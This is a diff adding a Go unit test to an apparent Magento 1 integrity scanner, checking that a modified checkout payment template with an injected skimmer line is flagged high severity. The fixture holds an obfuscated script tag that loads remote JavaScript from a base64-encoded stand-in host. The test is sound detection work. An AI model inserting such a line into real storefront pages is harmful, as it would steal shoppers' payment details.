@@ -35,6 +35,20 @@ func TestCoreFindingsShowStealerLines(t *testing.T) {
 	}
 }
 
+// TestCoreThemeEdits: a stock template changed in place is for a person to
+// review; the same file with a skimmer line is high.
+func TestCoreThemeEdits(t *testing.T) {
+	tpl := "app/design/frontend/rwd/default/template/checkout/onepage/payment.phtml"
+	edit := m1core.Change{Path: tpl, Code: true, Lines: true, ForeignLines: 1, Foreign: []m1core.Line{{N: 3, Text: `<div class="my-shop-note"><?php echo $this->__('Secure payment') ?></div>`}}}
+	skim := m1core.Change{Path: tpl, Code: true, Lines: true, ForeignLines: 1, Foreign: []m1core.Line{{N: 3, Text: `<script>var s=document.createElement('script');s.src=atob('Ly94LmV4YW1wbGUvai5qcw==');</script>`}}}
+	if f := coreFinding(edit, "modified"); f.Severity != SeverityMedium {
+		t.Errorf("theme edit: %s", f.Severity)
+	}
+	if f := coreFinding(skim, "modified"); f.Severity != SeverityHigh || !strings.Contains(f.Evidence, "atob(") {
+		t.Errorf("theme skimmer: %+v", f)
+	}
+}
+
 func TestCoreIntegrityUnknownReleaseFallsBack(t *testing.T) {
 	root := t.TempDir()
 	writeFile(t, filepath.Join(root, "app", "Mage.php"), "<?php // not a release\n")
